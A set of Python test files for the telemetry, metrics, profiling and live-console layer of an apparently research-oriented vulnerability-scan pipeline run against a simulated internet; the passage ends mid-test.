    def test_ordering_is_value_determined(self):
        # equal durations tie-break on start, then host/port/name —
        # never on insertion order
        a = {"duration": 2.0, "start": 5.0, "host": "b", "port": 1, "name": "p"}
        b = {"duration": 2.0, "start": 1.0, "host": "a", "port": 1, "name": "p"}
        c = {"duration": 3.0, "start": 9.0, "host": "z", "port": 9, "name": "p"}
        assert sorted([a, b, c], key=_record_key) == [c, b, a]

    def test_compaction_preserves_the_top_k(self):
        flight = FlightRecorder(capacity=2)
        # push far past capacity * slack to force mid-stream compaction
        for index in range(50):
            record_probe(flight, float(index), start=float(index))
        assert [r["duration"] for r in flight.records] == [49.0, 48.0]
        assert flight.probes_seen == 50

    def test_absorb_keeps_the_global_top_k(self):
        durations = [float(d) for d in (9, 1, 8, 2, 7, 3, 6, 4, 5, 10)]
        whole = FlightRecorder(capacity=4)
        for index, duration in enumerate(durations):
            record_probe(whole, duration, start=float(index))

        left = FlightRecorder(capacity=4)
        right = FlightRecorder(capacity=4)
        for index, duration in enumerate(durations):
            shard = left if index < 5 else right
            record_probe(shard, duration, start=float(index))
        folded = FlightRecorder(capacity=4)
        folded.absorb(left)
        folded.absorb(right)

        assert folded.records == whole.records
        assert folded.probes_seen == whole.probes_seen == 10

    def test_exchange_windows_are_per_probe(self):
        flight = FlightRecorder()
        flight.note_exchange("/stray", status=200)  # before any window
        mark = flight.exchange_mark()
        flight.note_exchange("/login", status=401, body_bytes=12)
        flight.note_exchange("/api", error="ConnectionReset")
        flight.record(probe_span(1.0), (), mark)
        (record,) = flight.records
        assert record["exchanges"] == [
            {"path": "/login", "status": 401, "body_bytes": 12},
            {"path": "/api", "error": "ConnectionReset"},
        ]
        # the consumed window is gone; the next probe starts clean
        assert flight.exchange_mark() == 1  # only the stray entry remains

    def test_record_strips_host_port_from_attrs(self):
        flight = FlightRecorder()
        span = probe_span(1.0)
        span.attrs["verdict"] = "mav"
        flight.record(span, (), 0)
        (record,) = flight.records
        assert record["host"] == "10.0.0.1"
        assert record["port"] == 80
        assert record["attrs"] == {"verdict": "mav"}

    def test_snapshot_restore_round_trip(self):
        flight = FlightRecorder(capacity=2)
        for duration in (1.0, 3.0, 2.0):
            record_probe(flight, duration)
        state = json.loads(json.dumps(flight.snapshot_state()))
        restored = FlightRecorder()
        restored.restore_state(state)
        assert restored.capacity == 2
        assert restored.probes_seen == 3
        assert restored.records == flight.records
        assert restored.to_dict() == flight.to_dict()

    def test_capacity_must_be_positive(self):
        with pytest.raises(ValueError):
            FlightRecorder(capacity=0)

    def test_render_mentions_every_kept_probe(self):
        flight = FlightRecorder(capacity=2)
        record_probe(flight, 2.0, host="10.0.0.1")
        record_probe(flight, 1.0, host="10.0.0.2")
        text = flight.render()
        assert "10.0.0.1" in text and "10.0.0.2" in text


class TestTelemetryTap:
    """The recorder wired through the telemetry handle's span listener."""

    def run_probe(self, telemetry, clock, slug, host, duration):
        tracer = telemetry.tracer
        tracer.start(f"probe:{slug}", host=host, port=80)
        telemetry.events.info("tsunami", "attempt", host=host)
        telemetry.flight.note_exchange("/check", status=200, body_bytes=5)
        clock.advance(duration)
        tracer.end()

    def test_probe_spans_feed_the_recorder(self):
        clock = SimClock()
        telemetry = Telemetry(clock=clock)
        with telemetry.tracer.span("sweep"):
            self.run_probe(telemetry, clock, "jenkins", "10.0.0.1", 3.0)
            self.run_probe(telemetry, clock, "docker", "10.0.0.2", 5.0)
        records = telemetry.flight.records
        assert [r["name"] for r in records] == ["probe:docker", "probe:jenkins"]
        assert records[0]["duration"] == 5.0
        assert records[0]["exchanges"] == [
            {"path": "/check", "status": 200, "body_bytes": 5}
        ]
        assert [e["event"] for e in records[0]["events"]] == ["attempt"]

    def test_non_probe_spans_are_ignored(self):
        telemetry = Telemetry(clock=SimClock())
        with telemetry.tracer.span("sweep"):
            with telemetry.tracer.span("batch"):
                pass
        assert telemetry.flight.probes_seen == 0

    def test_default_capacity_is_bounded(self):
        clock = SimClock()
        telemetry = Telemetry(clock=clock)
        with telemetry.tracer.span("sweep"):
            for index in range(DEFAULT_CAPACITY * 10):
                self.run_probe(
                    telemetry, clock, "x", f"10.0.{index // 250}.{index % 250}",
                    float(index),
                )
        assert len(telemetry.flight) == DEFAULT_CAPACITY
        assert telemetry.flight.probes_seen == DEFAULT_CAPACITY * 10

    def test_absorb_merges_shard_recorders(self):
        clock_a, clock_b = SimClock(), SimClock()
        a, b = Telemetry(clock=clock_a), Telemetry(clock=clock_b)
        with a.tracer.span("sweep"):
            self.run_probe(a, clock_a, "jenkins", "10.0.0.1", 9.0)
        with b.tracer.span("sweep"):
            self.run_probe(b, clock_b, "docker", "10.0.0.2", 4.0)
        a.absorb(b)
        assert [r["name"] for r in a.flight.records] == [
            "probe:jenkins", "probe:docker",
        ]
        assert a.flight.probes_seen == 2

    def test_flight_survives_snapshot_restore(self):
        clock = SimClock()
        telemetry = Telemetry(clock=clock)
        with telemetry.tracer.span("sweep"):
            self.run_probe(telemetry, clock, "jenkins", "10.0.0.1", 2.0)
        state = json.loads(json.dumps(telemetry.snapshot_state()))
        restored = Telemetry(clock=SimClock())
        restored.restore_state(state)
        assert restored.flight.to_dict() == telemetry.flight.to_dict()

    def test_restore_tolerates_pre_flight_snapshots(self):
        telemetry = Telemetry()
        state = telemetry.snapshot_state()
        state.pop("flight")  # a checkpoint written before the recorder shipped
        fresh = Telemetry()
        fresh.restore_state(state)
        assert fresh.flight.probes_seen == 0
