"""Tests for span profile rollups and the wall-time book."""

import json

from repro.obs.profile import PathStats, ProfileRollup, WallProfile, wall_now
from repro.obs.trace import Tracer
from repro.util.clock import SimClock


def traced_run():
    """A small span tree with known SimClock timings.

    sweep (0..10)
    ├── batch (0..7)
    │   ├── stage:prefilter (0..2)
    │   └── stage:tsunami (2..7)
    │       └── probe:jenkins (3..6)
    └── batch (7..9)
    """
    clock = SimClock()
    tracer = Tracer(clock=clock)
    tracer.start("sweep")
    tracer.start("batch")
    tracer.start("stage:prefilter")
    clock.advance(2.0)
    tracer.end()
    tracer.start("stage:tsunami")
    clock.advance(1.0)
    tracer.start("probe:jenkins", host="1.2.3.4")
    clock.advance(3.0)
    tracer.end()
    clock.advance(1.0)
    tracer.end()  # tsunami
    tracer.end()  # batch
    tracer.start("batch")
    clock.advance(2.0)
    tracer.end()
    clock.advance(1.0)
    tracer.end()  # sweep
    return tracer


class TestRollup:
    def test_paths_and_totals(self):
        rollup = ProfileRollup.from_spans(traced_run().finished)
        assert rollup.total("sweep") == 10.0
        assert rollup.total("sweep/batch") == 9.0  # 7 + 2
        assert rollup.total("sweep/batch/stage:tsunami") == 5.0
        assert rollup.total("sweep/batch/stage:tsunami/probe:jenkins") == 3.0
        assert rollup.paths["sweep/batch"].count == 2

    def test_self_time_excludes_children(self):
        rollup = ProfileRollup.from_spans(traced_run().finished)
        # tsunami ran 5s, its probe 3s -> 2s of its own
        assert rollup.self_time("sweep/batch/stage:tsunami") == 2.0
        # sweep ran 10s, its two batches 9s -> 1s of orchestration
        assert rollup.self_time("sweep") == 1.0

    def test_self_times_sum_to_root_total(self):
        rollup = ProfileRollup.from_spans(traced_run().finished)
        attributed = sum(s.self_time for s in rollup.paths.values())
        assert attributed == rollup.root_total == 10.0

    def test_attributed_fraction(self):
        rollup = ProfileRollup.from_spans(traced_run().finished)
        # 1s of sweep self time out of 10s total
        assert rollup.attributed_fraction() == 0.9

    def test_zero_duration_record_attributes_trivially(self):
        tracer = Tracer()  # no clock: every duration is 0.0
        with tracer.span("sweep"):
            with tracer.span("batch"):
                pass
        rollup = ProfileRollup.from_spans(tracer.finished)
        assert rollup.root_total == 0.0
        assert rollup.attributed_fraction() == 1.0

    def test_open_spans_are_excluded(self):
        clock = SimClock()
        tracer = Tracer(clock=clock)
        tracer.start("sweep")
        tracer.start("batch")
        clock.advance(1.0)
        tracer.end()  # batch closes, sweep stays open
        rollup = ProfileRollup.from_spans(
            list(tracer.finished) + list(tracer._stack)
        )
        # the open sweep has no end; it must not contribute (and the
        # closed batch becomes a root because its parent is excluded)
        assert set(rollup.paths) == {"batch"}

    def test_by_stage_merges_leaf_names(self):
        rollup = ProfileRollup.from_spans(traced_run().finished)
        stages = rollup.by_stage()
        assert stages["batch"].count == 2
        assert stages["batch"].total == 9.0
        assert stages["probe:jenkins"].total == 3.0

    def test_to_dict_is_canonical_and_json_safe(self):
        rollup = ProfileRollup.from_spans(traced_run().finished)
        payload = rollup.to_dict()
        assert list(payload["paths"]) == sorted(payload["paths"])
        assert payload["root_total"] == 10.0
        assert payload["attributed_fraction"] == 0.9
        again = ProfileRollup.from_spans(traced_run().finished).to_dict()
        assert json.dumps(payload, sort_keys=True) == json.dumps(
            again, sort_keys=True
        )

    def test_render_lists_every_path(self):
        rollup = ProfileRollup.from_spans(traced_run().finished)
        text = rollup.render()
        for path in rollup.paths:
            assert path in text


class TestWallAccounting:
    def traced_with_wall(self):
        """Arm a deterministic fake wall clock: each read advances 1s."""
        tracer = Tracer(clock=SimClock())
        ticks = iter(range(100))
        tracer.wall_clock = lambda: float(next(ticks))
        with tracer.span("sweep"):        # wall 0..5
            with tracer.span("batch"):    # wall 1..4
                with tracer.span("stage:prefilter"):  # wall 2..3
                    pass
        return tracer

    def test_wall_rides_spans_but_not_their_dicts(self):
        tracer = self.traced_with_wall()
        sweep = tracer.spans_named("sweep")[0]
        assert sweep.wall_start == 0.0 and sweep.wall_end == 5.0
        assert "wall_start" not in sweep.to_dict()
        assert "wall_end" not in sweep.to_dict()

    def test_wall_self_subtracts_children(self):
        rollup = ProfileRollup.from_spans(self.traced_with_wall().finished)
        wall = rollup.wall_to_dict()
        assert wall["sweep"]["total"] == 5.0
        assert wall["sweep"]["self"] == 2.0  # 5 - batch's 3
        assert wall["sweep/batch"]["self"] == 2.0  # 3 - prefilter's 1

    def test_wall_book_absent_without_profiling(self):
        rollup = ProfileRollup.from_spans(traced_run().finished)
        assert rollup.has_wall is False
        assert rollup.wall_to_dict() == {}

    def test_canonical_dict_never_carries_wall(self):
        rollup = ProfileRollup.from_spans(self.traced_with_wall().finished)
        payload = json.dumps(rollup.to_dict())
        assert "wall" not in payload

    def test_wall_now_is_monotonic(self):
        a = wall_now()
        b = wall_now()
        assert b >= a


class TestWallProfile:
    def test_note_shard_folds_elapsed_and_paths(self):
        book = WallProfile()
        book.note_shard(0, {"elapsed": 1.5, "paths": {
            "sweep": {"self": 0.5, "total": 1.5},
        }})
        book.note_shard(1, {"elapsed": 2.5, "paths": {
            "sweep": {"self": 2.0, "total": 2.5},
            "sweep/batch": {"self": 0.5, "total": 0.5},
        }})
        assert book.armed
        assert book.elapsed() == 4.0
        assert book.path_self["sweep"] == 2.5
        assert book.dominant_path() == "sweep"

    def test_note_rollup_folds_a_sequential_record(self):
        tracer = Tracer(clock=SimClock())
        ticks = iter(range(100))
        tracer.wall_clock = lambda: float(next(ticks))
        with tracer.span("sweep"):
            pass
        book = WallProfile()
        book.note_rollup(ProfileRollup.from_spans(tracer.finished))
        assert book.path_total["sweep"] == 1.0

    def test_to_dict_ranks_by_self_and_honours_top(self):
        book = WallProfile()
        book.note_shard(0, {"elapsed": 1.0, "paths": {
            "a": {"self": 0.1, "total": 0.1},
            "b": {"self": 0.9, "total": 0.9},
            "c": {"self": 0.5, "total": 0.5},
        }})
        payload = book.to_dict(top=2)
        assert list(payload["paths"]) == ["b", "c"]
        assert payload["dominant_path"] == "b"
        assert payload["shards"] == {
            "count": 1, "min": 1.0, "median": 1.0, "p95": 1.0, "max": 1.0,
            "top": {"0": 1.0},
        }

    def test_shard_summary_is_a_distribution_not_a_table(self):
        book = WallProfile()
        for index in range(20):
            book.note_shard(index, {"elapsed": float(index + 1), "paths": {}})
        summary = book.shard_summary(top=5)
        assert summary["count"] == 20
        assert summary["min"] == 1.0
        assert summary["max"] == 20.0
        assert summary["median"] == 11.0
        assert summary["p95"] == 20.0
        # Only the five slowest shards are named, keyed by shard index.
        assert list(summary["top"]) == ["19", "18", "17", "16", "15"]
        assert summary["top"]["19"] == 20.0

    def test_unarmed_book_is_empty(self):
        book = WallProfile()
        assert not book.armed
        assert book.elapsed() == 0.0
        assert book.dominant_path() is None
        assert book.to_dict() == {
            "elapsed": 0.0, "shards": {"count": 0, "top": {}},
            "dominant_path": None, "paths": {},
        }


class TestPathStats:
    def test_to_dict_rounds_sim_only(self):
        stats = PathStats(
            count=2, total=1.23456789055, self_time=0.5,
            wall_total=9.9, wall_self=9.9,
        )
        payload = stats.to_dict()
        assert payload == {"count": 2, "total": 1.234567891, "self": 0.5}
