"""Tests for the operations console: hub aggregation and the HTTP server.

The acceptance property: during a *live* chaos-soak the console answers
``/metrics``, ``/funnel``, ``/quarantine``, and ``/shards`` mid-flight —
while shards are still executing — without disturbing the run.
"""

import json
import threading
import urllib.error
import urllib.request

from repro.experiments.chaos_soak import run_chaos_soak
from repro.obs.console import ConsoleHub, ConsoleServer
from repro.obs.telemetry import FUNNEL_STAGES, Telemetry
from repro.util.clock import SimClock


def fetch(url):
    with urllib.request.urlopen(url, timeout=10) as response:
        return (
            response.status,
            response.headers["content-type"],
            response.read().decode(),
        )


class TestHubViews:
    def test_empty_hub_serves_empty_views(self):
        hub = ConsoleHub()
        assert hub.metrics_text() == ""
        assert hub.funnel() == {
            "stages": {
                stage: {"in": 0.0, "out": 0.0, "dropped": 0.0,
                        "quarantined": 0.0}
                for stage in FUNNEL_STAGES
            }
        }
        assert hub.quarantine()["quarantined_hosts"] == []
        assert hub.shards() == {
            "complete": False, "total": 0, "running": 0, "done": 0,
            "shards": {},
        }
        assert hub.flight()["records"] == []

    def test_parent_telemetry_feeds_metrics_and_funnel(self):
        hub = ConsoleHub()
        telemetry = Telemetry(clock=SimClock())
        telemetry.metrics.counter(
            "funnel_hosts_total", stage="masscan", flow="in"
        ).inc(7)
        hub.attach_telemetry(telemetry)
        assert hub.funnel()["stages"]["masscan"]["in"] == 7.0
        assert 'stage="masscan"' in hub.metrics_text()

    def test_midflight_payloads_merge_with_parent(self):
        hub = ConsoleHub()
        parent = Telemetry(clock=SimClock())
        parent.metrics.counter(
            "funnel_hosts_total", stage="masscan", flow="in"
        ).inc(3)
        hub.attach_telemetry(parent)
        hub.begin_sweep([{"index": 0, "addresses": 10},
                         {"index": 1, "addresses": 12}])

        shard = Telemetry(clock=SimClock())
        shard.metrics.counter(
            "funnel_hosts_total", stage="masscan", flow="in"
        ).inc(4)
        hub.note_shard_running(0)
        hub.note_shard_done(0, {
            "addresses": 10,
            "telemetry": shard.snapshot_state(),
            "report": {"coverage": {"quarantined_hosts": ["10.0.0.9"]}},
        })

        assert hub.funnel()["stages"]["masscan"]["in"] == 7.0
        shards = hub.shards()
        assert shards == {
            "complete": False, "total": 2, "running": 0, "done": 1,
            "shards": {
                "0": {"planned": 10, "status": "done", "scanned": 10},
                "1": {"planned": 12, "status": "planned", "scanned": 0},
            },
        }
        assert hub.quarantine()["quarantined_hosts"] == ["10.0.0.9"]

    def test_finish_sweep_switches_to_the_parent_only(self):
        """After the fold the parent holds the shard's numbers; keeping
        the payload too would double-count them."""
        hub = ConsoleHub()
        parent = Telemetry(clock=SimClock())
        hub.attach_telemetry(parent)
        hub.begin_sweep([{"index": 0, "addresses": 10}])

        shard = Telemetry(clock=SimClock())
        shard.metrics.counter(
            "funnel_hosts_total", stage="masscan", flow="in"
        ).inc(4)
        hub.note_shard_done(0, {
            "addresses": 10, "telemetry": shard.snapshot_state(),
            "report": {"coverage": {}},
        })
        assert hub.funnel()["stages"]["masscan"]["in"] == 4.0

        # emulate the fold: the parent registry absorbs the shard's counts
        parent.metrics.counter(
            "funnel_hosts_total", stage="masscan", flow="in"
        ).inc(4)

        class Report:
            class coverage:
                @staticmethod
                def to_dict():
                    return {"quarantined_hosts": ["10.0.0.1"]}

        hub.finish_sweep(Report())
        assert hub.funnel()["stages"]["masscan"]["in"] == 4.0  # not 8
        assert hub.shards()["complete"] is True
        assert hub.quarantine()["quarantined_hosts"] == ["10.0.0.1"]

    def test_abandoned_shards_count_as_done(self):
        hub = ConsoleHub()
        hub.begin_sweep([{"index": 0, "addresses": 5}])
        hub.note_shard_done(0, {
            "addresses": 2,
            "telemetry": Telemetry().snapshot_state(),
            "report": {"coverage": {}},
            "supervisor": {"abandoned": True, "restarts": 2},
        })
        shards = hub.shards()
        assert shards["done"] == 1
        assert shards["shards"]["0"]["status"] == "abandoned"
        assert shards["shards"]["0"]["restarts"] == 2


class TestServerEndpoints:
    def test_all_endpoints_respond(self):
        hub = ConsoleHub()
        telemetry = Telemetry(clock=SimClock())
        telemetry.metrics.counter(
            "funnel_hosts_total", stage="masscan", flow="in"
        ).inc(5)
        hub.attach_telemetry(telemetry)
        with ConsoleServer(hub, port=0) as server:
            status, ctype, body = fetch(server.url + "/metrics")
            assert status == 200
            assert ctype == "text/plain; version=0.0.4"
            assert 'funnel_hosts_total{flow="in",stage="masscan"} 5' in body

            status, ctype, body = fetch(server.url + "/funnel")
            assert status == 200 and ctype == "application/json"
            assert json.loads(body)["stages"]["masscan"]["in"] == 5.0

            for path in ("/quarantine", "/shards", "/flight"):
                status, ctype, body = fetch(server.url + path)
                assert status == 200 and ctype == "application/json"
                json.loads(body)

            status, ctype, body = fetch(server.url + "/")
            assert status == 200 and ctype == "text/html"
            assert "Sweep console" in body

    def test_unknown_path_is_404(self):
        with ConsoleServer(ConsoleHub(), port=0) as server:
            try:
                fetch(server.url + "/nope")
            except urllib.error.HTTPError as error:
                assert error.code == 404
            else:  # pragma: no cover
                raise AssertionError("expected a 404")

    def test_ephemeral_port_is_bound(self):
        with ConsoleServer(ConsoleHub(), port=0) as server:
            assert server.port > 0
            assert server.url == f"http://127.0.0.1:{server.port}"


class PausingHub(ConsoleHub):
    """A hub that parks the sweep after its first completed shard, so a
    test can scrape the console while the run is provably mid-flight."""

    def __init__(self):
        super().__init__()
        self.first_done = threading.Event()
        self.release = threading.Event()

    def note_shard_done(self, index, payload):
        super().note_shard_done(index, payload)
        if not self.first_done.is_set():
            self.first_done.set()
            # block the worker outside the hub lock until the test has
            # finished scraping
            assert self.release.wait(timeout=60)


class TestLiveChaosSoak:
    def test_console_serves_midflight_during_a_chaos_soak(self):
        """The tentpole acceptance test: all four endpoints answer while
        a chaos-soak sweep is still executing."""
        hub = PausingHub()
        outcome = {}

        def soak():
            outcome["result"] = run_chaos_soak(console=hub)

        with ConsoleServer(hub, port=0) as server:
            worker = threading.Thread(target=soak, daemon=True)
            worker.start()
            try:
                assert hub.first_done.wait(timeout=120), "no shard completed"

                status, _, metrics = fetch(server.url + "/metrics")
                assert status == 200
                assert "funnel_hosts_total" in metrics

                status, _, body = fetch(server.url + "/funnel")
                assert status == 200
                funnel = json.loads(body)
                assert funnel["stages"]["masscan"]["in"] > 0

                status, _, body = fetch(server.url + "/quarantine")
                assert status == 200
                json.loads(body)  # shape only: chaos may not have struck yet

                status, _, body = fetch(server.url + "/shards")
                assert status == 200
                shards = json.loads(body)
                assert shards["complete"] is False  # provably mid-flight
                assert shards["total"] > shards["done"] >= 1
            finally:
                hub.release.set()
            worker.join(timeout=300)
            assert not worker.is_alive()
            assert "result" in outcome  # the soak's own gates all passed

            # after the fold the console flips to complete and keeps serving
            shards = json.loads(fetch(server.url + "/shards")[2])
            assert shards["complete"] is True
            assert shards["done"] == shards["total"]
            final = json.loads(fetch(server.url + "/funnel")[2])
            assert final["stages"]["masscan"]["in"] >= funnel["stages"][
                "masscan"]["in"]
