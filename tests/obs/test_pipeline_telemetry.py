"""Acceptance tests for the pipeline's telemetry layer.

Pins the two ISSUE-level guarantees:

* the stage funnel reconciles *exactly* with the ScanReport totals
  (hosts in = hosts out + dropped at every stage);
* a sweep killed mid-flight and resumed from its checkpoint emits a
  byte-identical JSONL telemetry export versus an uninterrupted run.
"""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance, scanned_ports
from repro.core.checkpoint import Checkpointer
from repro.core.pipeline import ScanPipeline
from repro.core.retry import RetryPolicy
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.host import Host, Service
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport, Transport
from repro.obs.telemetry import FUNNEL_STAGES
from repro.util.clock import SimClock

APPS = (
    ("polynote", 8192, True), ("docker", 2375, True), ("hadoop", 8088, True),
    ("grav", 80, False), ("consul", 8500, True), ("zeppelin", 8080, False),
    ("nomad", 4646, True), ("ajenti", 8000, False), ("jenkins", 8080, False),
    ("adminer", 80, False),
)


def build_world(decoys: int = 5):
    """Ten AWE hosts (some vulnerable) plus empty decoy addresses."""
    internet = SimulatedInternet()
    ips = []
    for index, (slug, port, vulnerable) in enumerate(APPS):
        ip = IPv4Address.parse(f"93.184.{100 + index % 2}.{10 + index}")
        host = Host(ip)
        host.add_service(
            Service(
                port,
                app=AppInstance(create_instance(slug, vulnerable=vulnerable), port),
            )
        )
        internet.add_host(host)
        ips.append(ip)
    for offset in range(decoys):
        ips.append(IPv4Address.parse(f"93.184.102.{50 + offset}"))
    return internet, ips


class TestFunnelReconciliation:
    def test_funnel_reconciles_with_report_totals(self):
        internet, ips = build_world()
        pipeline = ScanPipeline(
            InMemoryTransport(internet), scanned_ports(), seed=7,
            batch_size=4, fingerprint=False,
        )
        report = pipeline.run(ips)
        funnel = report.telemetry.funnel

        # stage I: every candidate address in, hosts with open ports out
        assert funnel("masscan", "in") == report.port_scan.addresses_scanned
        assert funnel("masscan", "out") == len(report.port_scan.open_ports)
        # stage II: open hosts in, signature-matched hosts out
        assert funnel("prefilter", "in") == funnel("masscan", "out")
        assert funnel("prefilter", "out") == report.total_awe_hosts()
        # stage III: candidates in, verified-vulnerable hosts out
        assert funnel("tsunami", "in") == funnel("prefilter", "out")
        assert funnel("tsunami", "out") == len(report.vulnerable_ips())
        # conservation at every stage
        for stage in FUNNEL_STAGES:
            assert funnel(stage, "in") == (
                funnel(stage, "out") + funnel(stage, "dropped")
            )
        # this world actually exercises every drop edge
        assert funnel("masscan", "dropped") > 0
        assert funnel("tsunami", "dropped") > 0

    def test_summary_travels_on_the_report(self):
        internet, ips = build_world(decoys=0)
        pipeline = ScanPipeline(
            InMemoryTransport(internet), scanned_ports(), seed=7,
            fingerprint=False,
        )
        report = pipeline.run(ips)
        assert report.telemetry.events > 0
        assert report.telemetry.spans > 0
        assert report.telemetry.counter("masscan_addresses_total") == len(ips)


class SimulatedCrash(BaseException):
    """A kill signal no pipeline layer may swallow."""


class KillSwitch(Transport):
    """Decorator that dies after a fixed number of wire operations."""

    def __init__(self, inner: Transport, die_after: int) -> None:
        super().__init__(enforce_ethics=inner.enforce_ethics)
        self.inner = inner
        self.stats = inner.stats
        self.die_after = die_after
        self.operations = 0

    def _tick(self) -> None:
        self.operations += 1
        if self.operations > self.die_after:
            raise SimulatedCrash(f"killed after {self.die_after} operations")

    def _port_open(self, ip, port):
        self._tick()
        return self.inner._port_open(ip, port)

    def _exchange(self, ip, port, scheme, request):
        self._tick()
        return self.inner._exchange(ip, port, scheme, request)

    def fetch_certificate(self, ip, port):
        self._tick()
        return self.inner.fetch_certificate(ip, port)

    def snapshot_state(self):
        return self.inner.snapshot_state()

    def restore_state(self, state):
        self.inner.restore_state(state)


PLAN = FaultPlan(
    syn_loss=0.05, request_loss=0.05, reset_rate=0.02,
    flap_rate=0.2, flap_down=120.0, flap_period=600.0,
)


def run_arm(die_after=None, checkpoint=None, seed=3):
    """One pipeline sweep over a freshly built chaotic world."""
    internet, ips = build_world(decoys=0)
    clock = SimClock()
    transport = ChaosTransport(
        InMemoryTransport(internet), PLAN, seed=21, clock=clock
    )
    if die_after is not None:
        transport = KillSwitch(transport, die_after)
    pipeline = ScanPipeline(
        transport, scanned_ports(), seed=seed, batch_size=3, fingerprint=False,
        retry_policy=RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=4.0),
        clock=clock,
    )
    report = pipeline.run(ips, checkpoint=checkpoint)
    return pipeline, report


class TestResumeTelemetry:
    @pytest.mark.parametrize("die_after", [50, 120, 200])
    def test_killed_and_resumed_sweep_emits_identical_jsonl(
        self, tmp_path, die_after
    ):
        """Acceptance: resume telemetry is byte-identical to one clean run."""
        clean_pipeline, clean_report = run_arm()
        expected = clean_pipeline.telemetry.export_jsonl()
        assert expected  # the dump is non-trivial

        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        with pytest.raises(SimulatedCrash):
            run_arm(die_after=die_after, checkpoint=ckpt)
        resumed_pipeline, resumed_report = run_arm(checkpoint=ckpt)

        assert resumed_pipeline.telemetry.export_jsonl() == expected
        assert (
            resumed_pipeline.telemetry.export_prometheus()
            == clean_pipeline.telemetry.export_prometheus()
        )
        assert resumed_report.telemetry.to_dict() == clean_report.telemetry.to_dict()


class TestRescanTelemetry:
    def test_rescan_under_chaos_reports_nonzero_retry_counters(self):
        """rescan_hosts folds retry/telemetry stats exactly like run()."""
        internet, ips = build_world(decoys=0)
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet),
            FaultPlan(syn_loss=0.3, request_loss=0.3),
            seed=5,
            clock=clock,
        )
        pipeline = ScanPipeline(
            transport, scanned_ports(), seed=3, fingerprint=False,
            retry_policy=RetryPolicy(max_attempts=4, base_delay=0.5, max_delay=4.0),
            clock=clock,
        )
        report = pipeline.rescan_hosts(ips)
        assert report.retry_stats.retries > 0
        assert report.telemetry.counter("retry_retries_total") > 0
        assert report.telemetry.counter("chaos_faults_total", kind="syn-drop") > 0
        assert report.telemetry.funnel("masscan", "in") == len(ips)
