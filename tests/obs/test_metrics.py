"""Tests for the metrics registry."""

import json

import pytest

from repro.obs.metrics import (
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    flat_name,
    _label_key,
)


class TestPrimitives:
    def test_counter_only_goes_up(self):
        counter = Counter()
        counter.inc()
        counter.inc(2.5)
        assert counter.value == 3.5
        with pytest.raises(ValueError):
            counter.inc(-1)

    def test_gauge_moves_both_ways(self):
        gauge = Gauge()
        gauge.set(10)
        gauge.inc(5)
        gauge.dec(3)
        assert gauge.value == 12

    def test_histogram_buckets(self):
        histogram = Histogram(bounds=(1.0, 5.0))
        for value in (0.5, 0.9, 3.0, 100.0):
            histogram.observe(value)
        assert histogram.cumulative() == [
            (1.0, 2), (5.0, 3), (float("inf"), 4),
        ]
        assert histogram.count == 4
        assert histogram.total == pytest.approx(104.4)

    def test_histogram_needs_bounds(self):
        with pytest.raises(ValueError):
            Histogram(bounds=())

    def test_flat_name(self):
        assert flat_name("x_total", _label_key({})) == "x_total"
        assert (
            flat_name("x_total", _label_key({"b": 2, "a": "one"}))
            == "x_total{a=one,b=2}"
        )


class TestRegistry:
    def test_same_labels_same_instance(self):
        registry = MetricsRegistry()
        a = registry.counter("ops_total", kind="call")
        b = registry.counter("ops_total", kind="call")
        assert a is b
        registry.counter("ops_total", kind="probe").inc()
        a.inc(2)
        assert registry.counter_value("ops_total", kind="call") == 2
        assert registry.counter_value("ops_total", kind="probe") == 1

    def test_untouched_series_read_as_zero(self):
        registry = MetricsRegistry()
        assert registry.counter_value("nope") == 0.0
        assert registry.gauge_value("nope") == 0.0
        assert registry.histogram_count("nope") == 0

    def test_counters_flat_is_sorted(self):
        registry = MetricsRegistry()
        registry.counter("b_total").inc()
        registry.counter("a_total", x=1).inc(3)
        assert list(registry.counters_flat()) == ["a_total{x=1}", "b_total"]
        assert registry.counters_flat()["a_total{x=1}"] == 3.0

    def test_prometheus_exposition(self):
        registry = MetricsRegistry()
        registry.counter("requests_total", code=200).inc(3)
        registry.gauge("depth").set(2)
        registry.histogram("latency_seconds", buckets=(1.0,)).observe(0.5)
        text = registry.to_prometheus()
        assert "# TYPE requests_total counter" in text
        assert 'requests_total{code="200"} 3' in text
        assert "# TYPE depth gauge" in text
        assert "depth 2" in text
        assert 'latency_seconds_bucket{le="1"} 1' in text
        assert 'latency_seconds_bucket{le="+Inf"} 1' in text
        assert "latency_seconds_sum 0.5" in text
        assert "latency_seconds_count 1" in text
        assert text.endswith("\n")

    def test_empty_registry_exposition(self):
        assert MetricsRegistry().to_prometheus() == ""

    def test_touched_then_restored_empty_registry_is_empty(self):
        registry = MetricsRegistry()
        registry.counter("ops_total").inc()
        registry.restore_state(MetricsRegistry().snapshot_state())
        assert registry.to_prometheus() == ""


class TestExpositionEscaping:
    """Label values must survive the three characters the Prometheus
    text format requires escaping inside quoted values."""

    def exposition_line(self, value):
        registry = MetricsRegistry()
        registry.counter("paths_total", path=value).inc()
        (line,) = [
            line for line in registry.to_prometheus().splitlines()
            if not line.startswith("#")
        ]
        return line

    def test_double_quotes_are_escaped(self):
        line = self.exposition_line('say "hi"')
        assert line == 'paths_total{path="say \\"hi\\""} 1'

    def test_backslashes_are_escaped(self):
        line = self.exposition_line("C:\\temp")
        assert line == 'paths_total{path="C:\\\\temp"} 1'

    def test_newlines_are_escaped(self):
        line = self.exposition_line("line1\nline2")
        assert line == 'paths_total{path="line1\\nline2"} 1'
        # the exposition must stay one-line-per-sample
        assert "\n" not in line

    def test_backslash_escapes_before_other_escapes(self):
        # a literal backslash-n must not collapse into an escaped newline
        line = self.exposition_line("a\\nb")
        assert line == 'paths_total{path="a\\\\nb"} 1'

    def test_histogram_le_labels_are_untouched(self):
        registry = MetricsRegistry()
        registry.histogram("lat", buckets=(0.5,)).observe(9.0)
        text = registry.to_prometheus()
        # the out-of-bounds observation lands only in the +Inf bucket
        assert 'lat_bucket{le="0.5"} 0' in text
        assert 'lat_bucket{le="+Inf"} 1' in text
        assert "lat_count 1" in text

    def test_inf_bucket_always_counts_everything(self):
        registry = MetricsRegistry()
        histogram = registry.histogram(
            "lat", code=500, buckets=(1.0, 2.0)
        )
        for value in (0.5, 1.5, 99.0, float("inf")):
